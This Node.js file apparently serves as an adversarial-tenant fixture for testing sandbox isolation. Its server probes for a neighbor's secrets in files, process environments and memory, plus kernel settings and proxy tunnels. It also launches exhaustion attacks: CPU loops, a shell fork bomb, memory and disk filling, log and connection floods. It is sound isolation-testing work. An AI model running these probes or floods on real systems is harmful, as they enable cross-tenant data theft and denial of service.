// A server of a tenant that attacks: `/read` answers with what it reaches of others, and `/exhaust` takes all it can get.
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { closeSync, openSync, readdirSync, readFileSync, statSync } from 'node:fs';
import { createServer } from 'node:http';
import { connect } from 'node:net';

const target = JSON.parse(process.env.TARGET);
const ANSWER_LIMIT_MS = 3_000;
const LARGEST_FILE = 64 * 1024;
const CONNECTIONS = 100;

function attempt(work, otherwise) {
  try {
    return work();
  } catch {
    return otherwise;
  }
}

/** What a service answers to a greeting; empty when it is not reached. */
function heardFrom(options, greeting = '') {
  return new Promise((resolve) => {
    let heard = '';
    const socket = connect(options, () => greeting && socket.write(greeting));
    const close = () => {
      socket.destroy();
      resolve(heard);
    };
    socket.setTimeout(ANSWER_LIMIT_MS, close);
    socket.on('error', close).on('end', close);
    socket.on('data', (data) => {
      heard += data.toString('latin1');
      // Services that keep the connection open have answered.
      if (!options.isProxy || heard.includes('\r\n\r\n')) close();
    });
  });
}

/** Whether a service answers directly or through the proxy. */
async function reaches({ host, port, greeting }) {
  if (await heardFrom({ host, port }, greeting)) return true;
  if (!process.env.HTTP_PROXY) return false;
  const proxy = new URL(process.env.HTTP_PROXY);
  const tunnel = `CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`;
  return / 200 /.test(await heardFrom({ host: proxy.hostname, port: Number(proxy.port), isProxy: true }, tunnel));
}

function answersDatagram({ host, port, greeting }) {
  return new Promise((resolve) => {
    const socket = createSocket('udp4');
    const timer = setTimeout(() => close(false), ANSWER_LIMIT_MS);
    const close = (isReached) => {
      clearTimeout(timer);
      socket.close();
      resolve(isReached);
    };
    socket.once('error', () => close(false)).once('message', () => close(true));
    socket.connect(port, host, () => socket.send(Buffer.from(greeting, 'latin1')));
  });
}

/** The files below a folder. */
function filesBelow(folder) {
  return attempt(() => readdirSync(folder, { withFileTypes: true }), []).flatMap((entry) => {
    const path = `${folder}/${entry.name}`;
    return entry.isDirectory() ? filesBelow(path) : [path];
  });
}

const isSecretIn = (path) =>
  attempt(() => statSync(path).size <= LARGEST_FILE && readFileSync(path, 'latin1').includes(target.secret), false);
const others = () =>
  attempt(() => readdirSync('/proc'), []).filter((name) => Number(name) && Number(name) !== process.pid);
/** The processes of the neighbor. */
const neighbors = () =>
  others().filter((pid) =>
    attempt(() => readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(target.marker), false),
  );
const canOpen = (path, flags) => attempt(() => closeSync(openSync(path, flags)) === undefined, false);

const READS = {
  'files of the neighbor': () => target.folders.flatMap(filesBelow).some(isSecretIn),
  'temporary files of the neighbor': () => isSecretIn(`${process.env.TMPDIR}/${target.marker}`),
  'processes of the neighbor': () => neighbors().length > 0,
  'signals to the neighbor': () => neighbors().some((pid) => attempt(() => process.kill(Number(pid), 0), false)),
  'memory of the neighbor': () => neighbors().some((pid) => canOpen(`/proc/${pid}/mem`, 'r')),
  'environment of the neighbor': () => others().some((pid) => isSecretInEnvironment(pid)),
  'abstract socket of the neighbor': async () => (await heardFrom({ path: `\0${target.marker}` })) === target.secret,
  'sockets of the runtime': async () => {
    for (const path of target.folders.flatMap(filesBelow).filter((each) => /\/(runtime\.sock|http)$/.test(each)))
      if (await heardFrom({ path }, 'GET / HTTP/1.1\r\nHost: a\r\n\r\n')) return true;
    return false;
  },
  'settings of the kernel': () => canOpen('/proc/sys/kernel/core_pattern', 'r+'),
  'control groups': () => attempt(() => readdirSync('/sys/fs/cgroup').length > 0, false),
};
for (const service of target.services)
  READS[service.name] = () => (service.isDatagram ? answersDatagram(service) : reaches(service));

function isSecretInEnvironment(pid) {
  return attempt(() => readFileSync(`/proc/${pid}/environ`, 'latin1').includes(target.secret), false);
}

async function read() {
  const reached = [];
  for (const [name, attack] of Object.entries(READS)) if (await attack()) reached.push(name);
  return reached;
}

function run(script, stdio = 'ignore') {
  return attempt(() => spawn('sh', ['-c', script], { stdio }).on('error', () => undefined));
}

let isExhausting = false;

/** Opens connections to the proxy without a pause, each to an address that it refuses. */
function flood() {
  if (!isExhausting) return;
  const { hostname, port } = new URL(process.env.HTTP_PROXY);
  void heardFrom({ host: hostname, port: Number(port), isProxy: true }, 'CONNECT 10.0.0.1:80 HTTP/1.1\r\n\r\n').then(
    flood,
  );
}

const EXHAUSTING = {
  cpu: () => Array.from({ length: 40 }, () => run('while :; do :; done')),
  processes: () => run('fork() { while :; do (:) & done; }; fork & fork & fork & fork & wait'),
  memory: () => run(`while :; do perl -e 'my @all; push @all, "x" x 1048576 while 1'; done`),
  disk: () => run('while :; do cat /dev/zero >"$TMPDIR/all"; rm "$TMPDIR/all"; done'),
  log: () => [run("yes ''", ['ignore', 'inherit', 'ignore']), run("yes '' >&2", ['ignore', 'ignore', 'inherit'])],
  connections: () => Array.from({ length: CONNECTIONS }, flood),
};

/** Only where it cannot touch the machine: a sandbox has few processes, and numbers them from 1. */
function exhaust(kinds, ms) {
  if (process.pid > 10) throw new Error('This is not a sandbox.');
  isExhausting = true;
  for (const kind of kinds) EXHAUSTING[kind]();
  setTimeout(() => {
    isExhausting = false;
    // All processes of the sandbox except this one.
    attempt(() => process.kill(-1, 'SIGKILL'));
  }, ms);
}

createServer(async (request, response) => {
  const { pathname, searchParams } = new URL(request.url, 'http://attacker');
  if (pathname === '/read') return response.end(JSON.stringify(await read()));
  if (pathname !== '/exhaust') return response.end('idle');
  response.end('started', () => exhaust(searchParams.get('kinds').split(','), Number(searchParams.get('ms'))));
}).listen(Number(process.env.PORT), '127.0.0.1');
